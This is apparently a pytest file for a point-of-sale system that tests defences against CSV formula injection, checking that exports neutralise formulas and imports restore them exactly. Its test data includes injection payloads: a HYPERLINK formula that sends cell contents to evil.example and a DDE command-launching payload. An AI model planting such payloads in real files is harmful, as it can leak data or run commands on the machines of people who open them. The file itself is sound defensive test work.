"""CSV formula injection (issue 13, item 1): every CSV the product writes neutralises the cells a
spreadsheet would evaluate (OWASP: a leading '), and an import gives back the exact original text."""

from __future__ import annotations

import csv
import dataclasses
import io
import random

import pytest
from helpers.actors import MANAGER, manager

from pos.catalog.transfer import Import, export
from pos.core.csvcell import is_formula, neutralise, restore, restore_row
from pos.data import catalog as catalog_db
from pos.data import common
from pos.data import customers as customers_db
from pos.data import shop as shop_db
from pos.fiscal import archive

ATTACKS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"clic\")", "+cmd|'/C calc'!A0", "@SUM(1+1)", "-2+3",
           "\t=1+1", "\r=1+1", "'=already quoted", "''@x"]
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def dangerous(cell: str) -> bool:
    """What a spreadsheet would evaluate: a formula character first, and not a plain number."""
    return cell.startswith(TRIGGERS) and is_formula(cell)


def test_neutralise_and_restore_are_inverse():
    assert neutralise("=SUM(A1)") == "'=SUM(A1)" and restore("'=SUM(A1)") == "=SUM(A1)"
    for number in ("-12,50", "+3", "-250", "12.5", "0"):
        assert neutralise(number) == number  # amounts stay numbers
    assert neutralise("Pain") == "Pain" and restore("'Pain") == "'Pain"  # a leading ' of a plain text stays
    assert neutralise("'=x") == "''=x" and restore("''=x") == "'=x"
    rng = random.Random(13)
    alphabet = "'=+-@\t\r a1,."
    for _ in range(20000):
        text = "".join(rng.choice(alphabet) for _ in range(rng.randint(0, 6)))
        assert restore(neutralise(text)) == text, repr(text)
        assert not dangerous(neutralise(text)), repr(text)
    assert restore_row(["'=a", "b", "'c"]) == ["=a", "b", "'c"]


def rename_articles(names: list[str]) -> list[str]:
    refs = []
    for i, name in enumerate(names):
        article = catalog_db.article_detail(catalog_db.find_article_by_code("D010001" if i == 0 else
                                                                            f"D01000{i + 1}").id)
        catalog_db.save_article(dataclasses.replace(article, name=name))
        refs.append(article.reference)
    return refs


def cells(path) -> list[list[str]]:
    return list(csv.reader(io.StringIO(path.read_text("utf-8-sig")), delimiter=";"))


def test_exports_neutralise_formulas_and_imports_restore_them(shop, tmp_path):
    names = [a.strip() or "x" for a in ATTACKS if a.strip()]  # the till strips names
    refs = rename_articles(names)
    dept = shop_db.save_department("=1+1 rayon")
    customer = customers_db.save_customer({"name": "@SUM(1+1)", "phone": "+33 6 12 34 56 78",
                                           "notes": "-2+3"})
    for entity in ("articles", "departments", "customers"):
        path = tmp_path / f"{entity}.csv"
        export(manager(), entity, path)
        bad = [c for row in cells(path) for c in row if dangerous(c)]
        assert bad == [], (entity, bad)
        # the round trip is exact: the file imported again changes nothing
        with Import(entity, path) as job:
            p = job.prepare()
            assert p.counts["changed"] == p.counts["new"] == p.counts["invalid"] == 0, (entity, p.counts)
    rows = {r[0]: r for r in cells(tmp_path / "articles.csv")}
    assert rows[refs[0]][2] == "'" + names[0]
    assert [catalog_db.find_article_by_code(r).name for r in refs] == names
    # a changed price in the export: the names come back exactly as they were
    path = tmp_path / "articles.csv"
    rows = cells(path)
    copy = next(r for r in rows if r[0] == refs[1])
    rows.append([refs[1] + "X", "", *copy[2:]])  # a new article, named like the neutralised cell
    out = io.StringIO()
    csv.writer(out, delimiter=";").writerows(rows)
    path.write_text(out.getvalue(), "utf-8-sig")
    with Import("articles", path) as job:
        assert job.prepare().counts["new"] == 1
        job.apply(manager(), add=True, update=False, delete=False)
    assert catalog_db.find_article_by_code(refs[1] + "X").name == names[1]
    assert [d.name for d in shop_db.departments() if d.id == dept] == ["=1+1 rayon"]
    assert customers_db.get_customer(customer)["notes"] == "-2+3"


def test_the_fiscal_archive_neutralises_its_csv_and_still_verifies(shop, till, tmp_path):
    name = "=HYPERLINK(\"http://evil.example\",\"x\")"
    rename_articles([name])
    till.scan("D010001")
    till.add_payment("card")
    till.validate()
    folder = tmp_path / "archive"
    archive.export(MANAGER, common.now_iso()[:7], folder)
    for path in folder.glob("*.csv"):
        bad = [c for row in csv.reader(io.StringIO(path.read_text("utf-8"))) for c in row if dangerous(c)]
        assert bad == [], (path.name, bad)
    lines = list(csv.DictReader(io.StringIO((folder / "ticket_lines.csv").read_text("utf-8"))))
    assert lines[-1]["name"] == "'" + name and restore(lines[-1]["name"]) == name
    assert "leading apostrophe" in (folder / "DESCRIPTION.md").read_text("utf-8")
    verdict = archive.verify(folder)
    assert verdict.ok, verdict.message


@pytest.mark.parametrize("cell", ["=1+1", "+A1", "@A1", "-1+1"])
def test_a_hand_made_file_with_quoted_formulas_imports_the_formula_text(shop, tmp_path, cell):
    path = tmp_path / "a.csv"
    path.write_text("reference;name;price;vat_rate\r\nZ1;'" + cell + ";1,00;20\r\n", "utf-8")
    with Import("articles", path) as job:
        job.prepare()
        job.apply(manager(), add=True, update=False, delete=False)
    assert catalog_db.find_article_by_code("Z1").name == cell
